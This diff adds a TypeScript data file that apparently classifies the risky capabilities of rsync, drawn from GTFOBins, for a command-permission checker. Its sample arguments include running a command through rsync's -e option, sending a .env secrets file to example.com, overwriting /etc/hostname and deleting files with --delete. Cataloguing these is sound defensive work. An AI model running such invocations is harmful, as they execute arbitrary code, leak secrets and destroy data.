@@ -1,0 +1,15 @@
+import type { Program } from '../program.ts';
+
+export default (): readonly Program[] => [
+  {
+    prefix: 'rsync',
+    powers: [
+      { can: 'exec', words: `-e 'id >&2; true' x:y .`, anywhere: true, seen: true },
+      { can: 'network-out', words: '.env rsync://example.com/x' },
+      { can: 'write-any', words: '/etc/hostname /tmp/x', mild: true, seen: true },
+      { can: 'destroy', words: '-a --delete e/ ./', mild: true, seen: true },
+    ],
+    source: ['gtfo:rsync'],
+    confidence: 'high',
+  },
+];
